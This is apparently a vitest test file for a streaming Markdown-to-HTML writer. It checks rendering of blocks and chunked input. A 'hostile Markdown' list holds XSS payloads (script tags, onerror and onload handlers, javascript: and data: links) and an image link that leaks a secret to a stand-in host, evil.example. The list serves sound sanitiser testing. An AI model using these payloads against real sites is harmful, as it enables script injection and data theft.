import { parseHTML } from 'linkedom';
import { describe, expect, it } from 'vitest';
import { MarkdownWriter } from './markdown-writer.js';

function open(): { writer: MarkdownWriter; target: HTMLElement } {
  const { document } = parseHTML('<!doctype html><html><body><div id="target"></div></body></html>');
  const target = document.getElementById('target') as unknown as HTMLElement;
  return { writer: new MarkdownWriter(target, document as unknown as Document), target };
}

function render(text: string, pieceLength = text.length): string {
  const { writer, target } = open();
  for (let at = 0; at < text.length; at += Math.max(1, pieceLength)) writer.append(text.slice(at, at + pieceLength));
  writer.end();
  return target.innerHTML.replaceAll(/<\/?div>/g, '');
}

const answer = [
  '# Title',
  'First *line* with **bold**, `code` and ~~gone~~',
  'second line',
  '',
  '- one',
  '  - inner',
  '- two',
  '3. three',
  '',
  '> quoted',
  '> more',
  '',
  '| a | b |',
  '|---|:-:|',
  '| 1 | `2` |',
  '',
  '```js',
  'const a = "<b>";',
  '',
  '# no title',
  '```',
  '---',
  'See [docs](https://example.org/a) or https://example.org/b.',
].join('\n');

describe('MarkdownWriter', () => {
  it('gives headings levels without gaps, below that of the page', () => {
    const levels = (text: string) => [...render(text).matchAll(/<h(\d)>/g)].map(([, level]) => Number(level));
    expect(levels('### a\n\n##### b\n\n### c\n\n# d\n\n## e\n\n###### f')).toEqual([2, 3, 2, 2, 3, 4]);
  });

  it('writes the blocks of an answer', () => {
    expect(render(answer)).toBe(
      '<h2>Title</h2>' +
        '<p>First <em>line</em> with <strong>bold</strong>, <code>code</code> and <del>gone</del><br>second line</p>' +
        '<ul><li>one<ul><li>inner</li></ul></li><li>two</li></ul><ol start="3"><li>three</li></ol>' +
        '<blockquote><p>quoted<br>more</p></blockquote>' +
        '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td><code>2</code></td></tr></tbody></table>' +
        '<pre tabindex="0" aria-label="Code, js"><code>const a = "&lt;b&gt;";\n\n# no title\n</code></pre>' +
        '<hr><p>See <a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/a">docs</a> or ' +
        '<a target="_blank" rel="noopener noreferrer nofollow" href="https://example.org/b">https://example.org/b</a>.</p>',
    );
  });

  it.each([1, 2, 3, 7, 64])('writes the same for pieces of %d characters', (length) => {
    expect(render(answer, length)).toBe(render(answer));
  });

  it('never touches closed blocks again', () => {
    const { writer, target } = open();
    writer.append('# One\n\nTwo\n\n```\ncode\n');
    const before = [...target.children];
    const text = before.at(-1)?.firstChild?.firstChild;
    writer.append('more code\n```\n\nThree');
    expect([...target.children].slice(0, before.length)).toEqual(before);
    expect(text?.textContent).toBe('code\nmore code\n');
  });

  it('continues in a new element when one paragraph has no end, and loses nothing', () => {
    const { writer, target } = open();
    const words = Array.from({ length: 5000 }, (_, index) => `word${index}`).join(' ');
    for (let at = 0; at < words.length; at += 100) writer.append(words.slice(at, at + 100));
    writer.end();
    expect(target.children.length).toBeGreaterThan(5);
    expect(target.textContent?.replaceAll(' ', '')).toBe(words.replaceAll(' ', ''));
  });

  it('keeps code open that no fence ends', () => {
    expect(render('```\nhalf')).toBe('<pre tabindex="0"><code>half\n</code></pre>');
  });

  it('ends code at a fence of its own kind and length only', () => {
    expect(render('````\n```\na\n````\nb')).toBe('<pre tabindex="0"><code>```\na\n</code></pre><p>b</p>');
  });
});

describe('hostile Markdown', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[click](javascript:alert(1))',
    '[click](JaVaScRiPt:alert(1))',
    '[click]( javascript:alert(1))',
    '[click](data:text/html,<script>alert(1)</script>)',
    '[click](vbscript:x)',
    '[a](https://example.org/"onmouseover="alert(1))',
    '![steal](https://evil.example/?q=secret)',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<https://example.org/><b>',
    '```<script>\nalert(1)\n</script>\n```',
    '| <script> | a |\n|---|---|\n| <b onclick=x> | c |',
    '# <iframe src=//evil.example>',
    '> <style>*{display:none}</style>',
  ];

  it.each(attacks)('%j makes no element but those of Markdown', (text) => {
    const { writer, target } = open();
    writer.append(text);
    writer.end();
    const names = new Set([...target.querySelectorAll('*')].map(({ localName }) => localName));
    const known =
      'div p a br h2 h3 h4 h5 h6 ul ol li blockquote pre code table thead tbody tr th td strong em del hr'.split(' ');
    expect([...names].filter((name) => !known.includes(name))).toEqual([]);
    for (const element of target.querySelectorAll('*')) {
      const attributes = [...element.attributes].map(({ name }) => name);
      expect(attributes.filter((name) => name.startsWith('on') || name === 'style' || name === 'src')).toEqual([]);
      expect(element.getAttribute('href') ?? 'https:').toMatch(/^(https?|mailto):/);
    }
  });

  it('of thousands of open marks takes little time', () => {
    const startedAt = performance.now();
    for (const mark of ['*', '_', '~~', '[', '![', '`', '> ', '- ', '**a', '`a``', '|', '<', '[](', 'https://']) {
      expect(render(mark.repeat(20_000)).length).toBeGreaterThan(0);
    }
    expect(performance.now() - startedAt).toBeLessThan(60_000);
  });
});
